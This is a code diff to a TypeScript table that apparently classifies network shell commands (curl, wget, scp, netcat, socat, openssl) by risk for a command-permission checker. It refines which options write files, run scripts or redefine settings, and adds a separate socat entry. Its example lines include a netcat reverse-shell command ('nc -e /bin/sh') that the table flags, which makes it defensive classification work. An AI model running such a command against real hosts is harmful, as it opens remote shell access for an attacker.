@@ -7,8 +7,8 @@ export const network: ReadonlyArray<CommandEntry> = [
     risk: "remote-write",
     operands: "connects*",
     flags:
-      "-# -0 -1 -2 -3 -4 -6 -A= -a -b= -B -c= -C= -e= -E= -f -F= -g -G -H= -i -I -j -k -l -L -m= -M -n -N -p -q -Q= -r= -R -s -S -u= -U= -v -V -w= -x= -X= -y= -Y= -z= -Z " +
-      "--anyauth --basic --cacert= --cert= --key= --ciphers= --compressed --connect-timeout= --cookie= --cookie-jar= --create-dirs " +
+      "-# -0 -1 -2 -3 -4 -6 -A= -a -b= -B -C= -e= -E= -f -F= -g -G -H= -i -I -j -k -l -L -m= -M -n -N -p -q -Q= -r= -R -s -S -u= -U= -v -V -w= -x= -X= -y= -Y= -z= -Z " +
+      "--anyauth --basic --cacert= --cert= --key= --ciphers= --compressed --connect-timeout= --cookie= --create-dirs " +
       "--digest --disable --fail --fail-with-body --fail-early --form= --form-string= --get --globoff --head --header= --http1.1 " +
       "--http2 --http3 --include --insecure --interface= --ipv4 --ipv6 --json= --limit-rate= --location --location-trusted " +
       "--max-redirs= --max-time= --max-filesize= --no-buffer --no-progress-meter --noproxy= --oauth2-bearer= --parallel --path-as-is " +
@@ -16,12 +16,12 @@ export const network: ReadonlyArray<CommandEntry> = [
       "--retry-connrefused --retry-max-time= --show-error --silent --socks5= --ssl-reqd --tcp-nodelay --tlsv1.2 --tlsv1.3 --url-query= " +
       "--user= --user-agent= --verbose --version --write-out= --proxy= --help",
     options: {
-      "-o= --output= -D= --dump-header= --trace= --trace-ascii= --stderr= --output-dir= --etag-save= --libcurl= --hsts= --alt-svc=":
+      "-c= --cookie-jar= -o= --output= -D= --dump-header= --trace= --trace-ascii= --stderr= --output-dir= --etag-save= --libcurl= --hsts= --alt-svc=":
         "writes",
       "-d= --data= --data-binary= --data-raw= --data-ascii= --data-urlencode=": "text",
       "-T= --upload-file= --etag-compare=": "reads",
       "--url=": "connects",
-      "-K= --config=": "unknown",
+      "-K= --config=": "redefines",
     },
     when: { "-O --remote-name --remote-name-all -J --remote-header-name": { also: { writes: "." } } },
     examples: {
@@ -44,7 +44,8 @@ export const network: ReadonlyArray<CommandEntry> = [
       "-O= -P= -o= -a= --output-document= --directory-prefix= --output-file= --append-output= --save-cookies= --warc-file=":
         "writes",
       "-i= --input-file= --post-file= --body-file= --load-cookies=": "reads",
-      "-e= --execute= --config= --use-askpass=": "unknown",
+      "--use-askpass=": "script",
+      "-e= --execute= --config=": "redefines",
       "--post-data= --body-data=": "text",
     },
     also: { writes: "." },
@@ -82,7 +83,7 @@ export const network: ReadonlyArray<CommandEntry> = [
     risk: "remote-write",
     operands: "remote-reads* remote-writes",
     flags: "-3 -4 -6 -A -B -C -O -p -q -r -s -T -v -R -c= -i= -J= -l= -P=",
-    options: { "-S= -D= -b=": "runs", "-o= -F=": "unknown" },
+    options: { "-S= -D=": "script", "-b=": "runs", "-o= -F=": "unknown" },
     recursive: "-r",
     examples: {
       "scp a.txt host:/tmp/": "ask remote-write read:a.txt write:host:/tmp/",
@@ -99,16 +100,26 @@ export const network: ReadonlyArray<CommandEntry> = [
     examples: { "ssh-keygen -t ed25519 -f key": "ask local-write write:key" },
   },
   {
-    command: "nc | ncat | netcat | socat | ftp | tftp",
+    command: "nc | ncat | netcat | ftp | tftp",
     risk: "remote-write",
     operands: "connects text*",
     flags: "-4 -6 -d -h -k -l -n -p= -r -s= -t -u -v -w= -z -q= -U -C -N -i= -x= -X=",
-    options: { "-e= -c= --exec= --sh-exec= --lua-exec=": "runs" },
+    options: { "-e= -c= --exec= --sh-exec=": "script", "--lua-exec=": "runs" },
     isRunner: true,
     examples: {
       "nc -z x.test 80": "ask remote-write connect:x.test",
       "nc -e /bin/sh x.test 80": "ask remote-write execute:/bin/sh connect:x.test",
     },
+  },
+  {
+    command: "socat",
+    risk: "remote-write",
+    // Addresses may be commands.
+    operands: "code*",
+    flags: "-d -D -v -x -u -U -s -b= -t= -T= -l= -4 -6",
+    also: { connects: "an address" },
+    isRunner: true,
+    examples: { "socat - TCP:x.test:80": "ask remote-write execute:- execute:TCP:x.test:80 connect:an address" },
   },
   {
     command: "ping | ping6 | traceroute | tracepath | mtr | dig | nslookup | host | whois | drill",
@@ -135,7 +146,7 @@ export const network: ReadonlyArray<CommandEntry> = [
   {
     command: "openssl s_client",
     risk: "remote-write",
-    operands: "text*",
+    operands: "connects*",
     flags: "-showcerts -servername= -brief -quiet -starttls= -verify= -alpn= -tls1_2 -tls1_3 -CAfile=",
     options: { "-connect=": "connects" },
     examples: { "openssl s_client -connect x.test:443": "ask remote-write connect:x.test" },
